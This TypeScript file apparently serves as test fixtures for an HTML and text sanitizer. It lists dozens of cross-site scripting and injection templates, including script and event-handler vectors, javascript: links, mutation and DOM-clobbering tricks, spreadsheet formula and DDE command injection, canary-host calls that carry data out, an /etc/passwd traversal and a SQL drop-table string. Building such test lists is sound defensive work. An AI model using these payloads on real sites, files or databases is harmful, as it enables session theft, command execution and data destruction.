/**
 * Ways to have a deed run where somebody makes markup, an address, a template or a formula of a text. `§` stands for the
 * deed, a piece of script. One family a line of defence.
 */
export const hostileWays: Record<string, readonly string[]> = {
  scripts: [
    '<script>§</script>', '<script type=module>§</script>', '<SCRIPT/x>§</SCRIPT >', '<script\t>§</script\n>', '<scr<script>ipt>§</scr</script>ipt>',
    '<script src="data:text/javascript,§"></script>', '<script src=//canary.invalid/x></script><b>§</b>', '<script>/*</script><script>*/§</script>',
    '<svg><script>§</script></svg>', '<svg><script href="data:,§"/></svg>', '<noscript><p title="</noscript><script>§</script>">',
    '</script><script>§</script>', '{"text":"</script><script>§</script>"}', '</textarea><script>§</script>', '</title><script>§</script>',
    '</style><script>§</script>', '--><script>§</script><!--', ']]><script>§</script>', '<!--><script>§</script>-->', '<![CDATA[<script>§</script>]]>',
  ],
  handlers: [
    '<img src=x onerror="§">', '<img src=x:x onerror=§>', '<img/src/onerror=§>', '<image src=x onerror="§">', '<svg onload="§">', '<svg/onload=§>',
    '<body onload="§">', '<body onpageshow="§">', '<details open ontoggle="§">x</details>', '<video><source onerror="§"></video>',
    '<video src=x onerror="§"></video>', '<audio src=x onerror="§"></audio>', '<iframe onload="§"></iframe>', '<input autofocus onfocus="§">',
    '<select autofocus onfocus="§"></select>', '<textarea autofocus onfocus="§"></textarea>', '<button autofocus onfocus="§">x</button>',
    '<p tabindex=1 autofocus onfocus="§">x</p>', '<x onpointerenter="§" style="position:fixed;inset:0">', '<marquee onstart="§">x</marquee>',
    '<svg><animate attributeName=x dur=1s onbegin="§"></svg>', '<style onload="§"></style>', '<link rel=stylesheet href=x onerror="§">',
    '<object data=x onerror="§"></object>', '<div contenteditable autofocus onfocus="§">x</div>', '<dialog open onbeforetoggle="§">x</dialog>',
    '<img src=x onerror=\u0060§\u0060>', "<img src='x'onerror='§'>", '<img src="x`><script>§</script>"`>', '<img src=x OnErRoR="§">',
  ],
  addresses: [
    'javascript:§', 'JaVaScRiPt:§', 'java\tscript:§', 'javascript://%0a§', 'vbscript:§', 'data:text/html,<script>§</script>',
    '<a href="javascript:§">点这里</a>', '<a href=" &#1;javascript:§">点这里</a>', '<a href="java&Tab;script:§">点这里</a>', '<a xlink:href="javascript:§">点这里</a>',
    '[点这里](javascript:§)', '[点这里](<javascript:§>)', '[点这里]: javascript:§', '![图](x" onerror="§)', '![图](javascript:§)', '<javascript:§>',
    '<form action="javascript:§"><button>提交</button></form>', '<button form=x formaction="javascript:§">提交</button>', '<isindex action="javascript:§">',
    '<iframe src="javascript:§"></iframe>', '<iframe srcdoc="<script>§</script>"></iframe>', '<embed src="javascript:§">', '<object data="javascript:§"></object>',
    '<meta http-equiv=refresh content="0;url=javascript:§">', '<meta http-equiv=refresh content="0;url=/canary/0?§">', '<base href="//canary.invalid/§/">',
    '<area href="javascript:§" shape=default>', '<frameset onload="§">', 'https://canary.invalid/" onmouseover="§', '//canary.invalid/§',
  ],
  breakouts: [
    '"><script>§</script>', "'><script>§</script>", '" autofocus onfocus="§', "' autofocus onfocus='§", '`-§-`', "'-§-'", '";§;//', "\\';§;//", '</p></div></body><script>§</script>',
    '" style="background:url(javascript:§)', '&quot;&gt;&lt;script&gt;§&lt;/script&gt;', '&#60;img src=x onerror=§&#62;', '%3Cscript%3E§%3C/script%3E', '\\u003cscript\\u003e§\\u003c/script\\u003e',
    '\\x3cscript\\x3e§\\x3c/script\\x3e', '＜script＞§＜/script＞', '‹script›§‹/script›', 'callback(§)//', '/**/§/**/', ')]}\'\n§', '"}]};§;({"a":[{"b":"',
  ],
  templates: [
    '{{constructor.constructor("§")()}}', '{{§}}', '$\u007b§}', '\u0060$\u007b§}\u0060', '#{§}', '<%= § %>', '[[§]]', '{% § %}', '@(§)', '*{§}', '$\u007b{§}}', '<div v-html="§" x-init="§" ng-init="§">',
    '__proto__[x]=§', '{"__proto__":{"innerHTML":"<img src=x onerror=§>"}}', '{"$$typeof":"Symbol(react.element)","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=§>"}}}',
  ],
  mutations: [
    '<svg></p><style><a id="</style><img src=x onerror=§>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=§&gt;">', '<math><mi xlink:href="javascript:§">x</mi></math>',
    '<svg><foreignObject><img src=x onerror="§"></foreignObject></svg>', '<svg><use href="data:image/svg+xml,<svg onload=§>#x"></svg>', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>',
    '<template><img src=x onerror="§"></template>', '<select><template><img src=x onerror=§></template></select>', '<table><td><img src=x onerror=§><caption>', '<listing>&lt;img src=x onerror=§&gt;</listing>',
    '<xmp><p title="</xmp><img src=x onerror=§>">', '<noembed><img title="</noembed><img src=x onerror=§>"></noembed>', '<p><svg><desc><b><img src=x onerror=§>', '<slot name=x onslotchange="§">', '<yuwen-chat src="javascript:§"></yuwen-chat>',
  ],
  clobbering: [
    '<img name=getElementById onerror="§" src=x>', '<form id=x><input name=attributes><img src=x onerror="§"></form>', '<a id=config><a id=config name=url href="javascript:§">', '<iframe name=top srcdoc="<script>§</script>"></iframe>',
    '<form name=body id=document onreset="§"></form>', '<img id=currentScript name=currentScript src="data:,§">',
  ],
  styles: [
    '<style>@import "javascript:§"</style>', '<style>*{background:url("/canary/0?§")}</style>', '<p style="width:expression(§)">', '<p style="background:url(\'javascript:§\')">', '<style>@font-face{src:url(/canary/0?§)}*{font-family:x}</style>', '@import url(javascript:§);', '}*{background:url(/canary/0)}/*§*/',
  ],
  formulas: [
    '=HYPERLINK("javascript:§","x")', '=cmd|"/c §"!A1', '+§', '-2+§', '@SUM(§)', '\t=1+§', '＝§', '=IMPORTXML("https://canary.invalid/?§","//a")', '"=1+§', ';=§', '=DDE("x";"§")',
  ],
  tricks: [
    '\u202e<script>§</script>\u202c', '\ufeff<script>§</script>', '<scr\u200bipt>§</scr\u200bipt>', '<іmg src=x onerror=§>', '<img src=x onerror\u00a0=§>', '\u2028<script>§</script>\u2029', '<img\u000csrc=x onerror=§>',
    '../../../etc/passwd<img src=x onerror=§>', '..\\..\\x"><img src=x onerror=§>.pdf', "'; drop table message; --<img src=x onerror=§>", `${'<a><b><i><u><s><p><q>'.repeat(12)}<img src=x onerror=§>`, `${'长'.repeat(500)}<img src=x onerror=§>`, `${'\u0344'.repeat(40)}<img src=x onerror=§>`,
  ],
}; // biome-ignore format: a list of ways
